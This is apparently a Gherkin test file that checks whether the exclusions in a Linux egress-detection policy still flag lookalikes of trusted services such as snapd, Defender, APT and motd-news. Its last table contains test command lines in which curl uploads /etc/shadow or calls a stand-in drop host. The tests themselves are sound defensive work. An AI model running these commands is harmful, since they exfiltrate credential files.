Feature: Near misses
  What is nearly an expected service is none. Each scenario takes one service and changes one thing that its exclusion
  rests on to the nearest other value: something before or behind it, another letter case, one letter off, the next port.
  Whoever loosens an exclusion (`starts_with` for `equals`, `ignore_case`, one more entry of a list) fails here.

  Rule: The published hunt rests on names, the beginning of a path and a part of a command line

    Background:
      Given the policy "linux-desktop-public-egress"

    Scenario Outline: a name that is only nearly <exclusion> stays visible
      When the process name is "<exclusion>"
      Then it is hidden by "<exclusion>"
      And it is kept when the process name is "<longer>"
      And it is kept when the process name is "<cased>"
      And it is kept when the process name is "<inside>"

      Examples:
        | exclusion      | longer          | cased          | inside            |
        | sensecm        | sensecmd        | SenseCM        | xsensecm          |
        | snapd          | snapd-helper    | Snapd          | mysnapd           |
        | networkmanager | networkmanager2 | NetworkManager | nm-networkmanager |
        | fwupdmgr       | fwupdmgr.bak    | FwupdMgr       | a-fwupdmgr        |

    Scenario: a path that only resembles APT's stays visible; its letter case alone is free
      When the path is "/usr/lib/apt/methods/http"
      Then it is hidden by "apt-methods"
      And it is hidden by "apt-methods" when the path is "/usr/lib/APT/x"
      And stays visible when the path is "/usr/lib/apt", "/usr/lib/apt-methods/http", "/usr/lib64/apt/methods/http" or "/tmp/usr/lib/apt/methods/http"

    Scenario: a command line that nearly names the upgrader stays visible
      When the command line is "python3 /usr/lib/ubuntu-release-upgrader/check-new-release"
      Then it is hidden by "release-upgrader"
      And it is kept when the command line is "python3 /usr/lib/ubuntu_release_upgrader/check-new-release"
      And it is kept when the command line is "python3 /usr/lib/ubuntu-release-upgrade/r"
      And it is kept when the command line is "python3 /usr/lib/buntu-release-upgrader/check-new-release"
      And it is hidden by "release-upgrader" when the command line is "xUBUNTU-RELEASE-UPGRADERx"

    Scenario: an expected name in the path or in the command line alone stays visible
      When the process name is "/usr/lib/apt/methods/http"
      Then it is kept
      And it is kept when the path is "/usr/bin/snapd"
      And it is kept when the command line is "snapd"

  Rule: The hardened baseline pins a daemon to name, path, account, parent and port

    Background:
      Given the policy "linux-desktop-public-egress-hardened"

    Scenario: what only resembles the Snap daemon stays visible
      When the program is "/usr/lib/snapd/snapd"
      And the user is "root"
      And the parent is "systemd"
      Then it is hidden by "snapd"
      And stays visible when the process name is "snapd2", "mysnapd" or "Snapd"
      And stays visible when the path is "/usr/lib/snapd/snapd.old", "/tmp/usr/lib/snapd/snapd" or "/usr/lib/snapd/Snapd"
      And stays visible when the path is "/snap/snapd/21759/usr/lib/snapd/snapd.old" or "/snap/snapd/21759/usr/lib/snapd/Snapd"
      And stays visible when the path is "/snap/snapd/x1/usr/lib/snapd/snapd" or "/snap/snapd//usr/lib/snapd/snapd"
      And stays visible when the user is "root2", "notroot" or "Root"
      And stays visible when the parent is "systemd-run", "mysystemd" or "Systemd"
      And stays visible when the port is 442 or 444

    Scenario Outline: what only resembles Defender's <name> stays visible
      When the program is "/opt/microsoft/mdatp/sbin/<name>"
      And the user is "root"
      Then it is hidden by "<exclusion>"
      And stays visible when the process name is "<name>2", "my<name>" or "<other case>"
      And stays visible when the path is "/opt/microsoft/mdatp/sbin/<name>2" or "/tmp/opt/microsoft/mdatp/sbin/<name>"
      And stays visible when the path is "/opt/microsoft/mdatp/sbin/<other case>"
      And stays visible when the user is "mdatp2", "notroot", "Root" or "ropt"
      And stays visible when the port is 442 or 444

      Examples:
        | name          | other case    | exclusion  |
        | wdavdaemon    | WDAVDaemon    | wdavdaemon |
        | telemetryd_v2 | telemetryd_V2 | telemetryd |
        | sensecm       | SenseCM       | sensecm    |

    Scenario: what only resembles the firmware daemon stays visible
      When the program is "/usr/libexec/fwupd/fwupd"
      And the user is "root"
      And the parent is "systemd"
      Then it is hidden by "fwupd-daemon"
      And stays visible when the process name is "fwupd-helper", "myfwupd" or "Fwupd"
      And stays visible when the path is "/usr/libexec/fwupd/fwupd-helper", "/tmp/usr/libexec/fwupd/fwupd" or "/usr/libexec/fwupd/Fwupd"
      And stays visible when the user is "root2", "notroot" or "Root"
      And stays visible when the parent is "systemd-run", "mysystemd" or "Systemd"
      And stays visible when the host is "fwupd.org.example.com", "notfwupd.org", "FWUPD.org" or "cdn.fwvpd.org"
      And stays visible when the port is 442 or 444

    Scenario: what only resembles NetworkManager stays visible; the letter case of its file alone is free
      When the program is "/usr/sbin/NetworkManager"
      And the user is "root"
      And the parent is "systemd"
      And the port is 80
      Then it is hidden by "networkmanager"
      And it is hidden by "networkmanager" when the process name is "NETWORKMANAGER"
      And stays visible when the process name is "NetworkManager-dispatcher" or "myNetworkManager"
      And stays visible when the path is "/usr/sbin/NetworkManager.old" or "/tmp/usr/sbin/NetworkManager"
      And stays visible when the user is "root2", "notroot" or "Root"
      And stays visible when the parent is "systemd-run", "mysystemd" or "Systemd"
      And stays visible when the host is "nmcheck.gnome.org.example.com", "notnmcheck.gnome.org", "NMcheck.gnome.org" or "nmcheck.hnome.org"
      And stays visible when the port is 79 or 81

    Scenario Outline: what only resembles the time service <name> stays visible
      When the program is "<folder><name>"
      And the user is "<user>"
      And the port is 123
      Then it is hidden by "<exclusion>"
      And stays visible when the process name is "<name>2", "my<name>" or "<other case>"
      And stays visible when the path is "<folder><name>.old", "/tmp<folder><name>" or "<folder><other case>"
      And stays visible when the user is "<user>2", "my<user>" or "<user's other case>"
      And stays visible when the port is 122 or 124

      Examples:
        | exclusion | folder            | name              | other case        | user             | user's other case |
        | timesyncd | /usr/lib/systemd/ | systemd-timesyncd | Systemd-Timesyncd | systemd-timesync | Systemd-Timesync  |
        | chronyd   | /usr/sbin/        | chronyd           | Chronyd           | _chrony          | _Chrony           |

    Scenario: a sensor that cuts timesyncd's name elsewhere than at 15 letters shows it
      When the program is "/usr/lib/systemd/systemd-timesyncd"
      And the process name is "systemd-timesyn"
      And the user is "systemd-timesync"
      And the port is 123
      Then it is hidden by "timesyncd" and stays visible when the process name is "systemd-timesy" or "systemd-uimesyn"

    Scenario: chronyd's other account and other port are as exact as the first ones
      When the program is "/usr/sbin/chronyd"
      And the user is "root"
      And the port is 4460
      Then it is hidden by "chronyd"
      And stays visible when the user is "root2", "notroot" or "ropt"
      And stays visible when the port is 4459 or 4461

  Rule: The hardened baseline pins a general tool to its command line and destination as well

    Background:
      Given the policy "linux-desktop-public-egress-hardened"

    Scenario: a run of the firmware client that is not the timer's stays visible
      When the program is "/usr/bin/fwupdmgr"
      And the command line is "/usr/bin/fwupdmgr refresh"
      And the user is "root"
      And the parent is "systemd"
      Then it is hidden by "fwupdmgr-refresh"
      And stays visible when the process name is "fwupdmgr2", "myfwupdmgr" or "Fwupdmgr"
      And stays visible when the path is "/usr/bin/fwupdmgr.old", "/tmp/usr/bin/fwupdmgr" or "/usr/bin/Fwupdmgr"
      And stays visible when the command line is "/usr/bin/fwupdmgr refresh --force", "sudo /usr/bin/fwupdmgr refresh" or "/usr/bin/fwupdmgr Refresh"
      And stays visible when the user is "fwupd-refresh2", "notroot", "Root" or "ropt"
      And stays visible when the parent is "systemd-run", "mysystemd" or "Systemd"
      And stays visible when the port is 442 or 444

    Scenario: what only resembles APT's method stays visible
      When the program is "/usr/lib/apt/methods/http"
      And the user is "_apt"
      And the parent is "apt-get"
      And the port is 80
      And the host is "archive.ubuntu.com"
      Then it is hidden by "apt-methods"
      And stays visible when the process name is "httpd", "myhttp", "Http" or "htups"
      And stays visible when the path is "/usr/lib/apt/methods/http2", "/tmp/usr/lib/apt/methods/http", "/usr/lib/APT/methods/http" or "/usr/lib/apt/nethods/https"
      And stays visible when the command line is "/usr/lib/apt/methods/http -v", "nohup /usr/lib/apt/methods/http", "/usr/lib/APT/methods/http" or "/usr/lib/apt/nethods/https"
      And stays visible when the user is "_apt2", "my_apt" or "_APT"
      And stays visible when the port is 79, 81, 442 or 444

    Scenario: APT's method stays visible when another program starts it
      When the program is "/usr/lib/apt/methods/http"
      And the user is "_apt"
      And the parent is "unattended-upgrade" or "python3.12"
      And the host is "archive.ubuntu.com"
      Then it is hidden by "apt-methods"
      And stays visible when the parent is "apt-helper", "sudo-apt" or "Apt"
      And stays visible when the parent is "unattended-upgrades" or "unattendee-upgrade"
      And stays visible when the parent is "python3.12-dbg", "ipython3", "Python3", "python3-12", "python3." or "python2"

    Scenario: APT's method stays visible when it fetches from what only resembles Ubuntu's archives
      When the program is "/usr/lib/apt/methods/http"
      And the user is "_apt"
      And the parent is "apt-get"
      And the host is "archive.ubuntu.com", "de.archive.ubuntu.com" or "https://esm.ubuntu.com/apps/ubuntu"
      Then it is hidden by "apt-methods"
      And stays visible when the host is "archive.ubuntu.com.example.com", "myarchive.ubuntu.com" or "Archive.ubuntu.com"
      And stays visible when the host is "de-archive.ubuntu.com", "archive-ubuntu.com" or "archive.ubuntu-com"
      And stays visible when the host is "drop.example.com/x.archive.ubuntu.com" or "https://drop.example.com/archive.ubuntu.com"
      And stays visible when the host is "archive.ubuntu.com:8080" or "ftp://archive.ubuntu.com"

    Scenario: what only resembles the check for a new release stays visible
      When the program is "/usr/bin/python3.12"
      And the command line is "/usr/bin/python3 /usr/lib/ubuntu-release-upgrader/check-new-release -q"
      And the user is "root"
      Then it is hidden by "release-check"
      And stays visible when the process name is "python3.12-dbg", "ipython3", "Python3", "python3-12" or "python3."
      And stays visible when the path is "/usr/bin/python3.12-dbg", "/tmp/usr/bin/python3.12", "/usr/bin/Python3.12", "/usr/bin/python3-12" or "/usr/bin/python3."
      And stays visible when the command line is "/usr/bin/python3 /usr/lib/ubuntu-release-upgrader/check-new-release -qd" or "/usr/bin/python3 /usr/lib/ubuntu-release-upgrader/check-new-release -Q"
      And stays visible when the command line is "sudo /usr/bin/python3 /usr/lib/ubuntu-release-upgrader/check-new-release -q"
      And stays visible when the user is "root2", "notroot" or "Root"
      And stays visible when the host is "changelogs.ubuntu.com.example.com", "notchangelogs.ubuntu.com", "Changelogs.ubuntu.com" or "https://changelogs.ubvntu.com/meta-release"
      And stays visible when the port is 79, 81, 442 or 444

    Scenario: what only resembles the message of the day stays visible
      When the program is "/usr/bin/curl"
      And the command line is "curl --connect-timeout 60 --max-time 60 -A curl/8.5.0 -o- https://motd.ubuntu.com"
      And the user is "root"
      And the parent is "sh"
      Then it is hidden by "motd-news"
      And stays visible when the process name is "curl2", "mycurl" or "Curl"
      And stays visible when the path is "/usr/bin/curl2", "/tmp/usr/bin/curl" or "/usr/bin/Curl"
      And stays visible when the user is "root2", "notroot" or "Root"
      And stays visible when the parent is "ssh", "sh2", "SH" or "si"
      And stays visible when the host is "motd.ubuntu.com.example.com", "notmotd.ubuntu.com", "MOTD.ubuntu.com" or "https://mote.ubuntu.com"
      And stays visible when the port is 442 or 444

    Scenario Outline: the message of the day with <what is wrong> stays visible
      When the program is "/usr/bin/curl"
      And the user is "root"
      And the parent is "50-motd-news"
      Then it is hidden by "motd-news" when the command line is "curl --connect-timeout 60 --max-time 60 -A curl/8.5.0 -o- https://motd.ubuntu.com"
      And stays visible when the command line is "<command line>"

      Examples:
        | what is wrong                   | command line                                                                                           |
        | another word in front           | sudo curl --connect-timeout 60 --max-time 60 -A curl/8.5.0 -o- https://motd.ubuntu.com                 |
        | an upload at the end            | curl --connect-timeout 60 --max-time 60 -A curl/8.5.0 -o- https://motd.ubuntu.com -d @/etc/shadow      |
        | an upload between its limits    | curl --connect-timeout 60 -T /etc/shadow --max-time 60 -A curl/8.5.0 -o- https://motd.ubuntu.com       |
        | an upload behind its limits     | curl --connect-timeout 60 --max-time 60 -T /etc/shadow -A curl/8.5.0 -o- https://motd.ubuntu.com       |
        | a limit that is no number       | curl --connect-timeout x --max-time 60 -A curl/8.5.0 -o- https://motd.ubuntu.com                       |
        | another limit that is no number | curl --connect-timeout 60 --max-time x -A curl/8.5.0 -o- https://motd.ubuntu.com                       |
        | another user agent              | curl --connect-timeout 60 --max-time 60 -A curl-evil/1 -o- https://motd.ubuntu.com                     |
        | a URL inside the user agent     | curl --connect-timeout 60 --max-time 60 -A curl/8 https://drop.example.com -o- https://motd.ubuntu.com |
        | a smaller letter in an option   | curl --connect-timeout 60 --max-time 60 -a curl/8.5.0 -o- https://motd.ubuntu.com                      |
        | a host that begins like its own | curl --connect-timeout 60 --max-time 60 -A curl/8.5.0 -o- https://motd.ubuntu.com.example.com          |
        | a host one letter off           | curl --connect-timeout 60 --max-time 60 -A curl/8.5.0 -o- https://motd-ubuntu.com                      |
        | a host another letter off       | curl --connect-timeout 60 --max-time 60 -A curl/8.5.0 -o- https://motd.ubuntu-com                      |
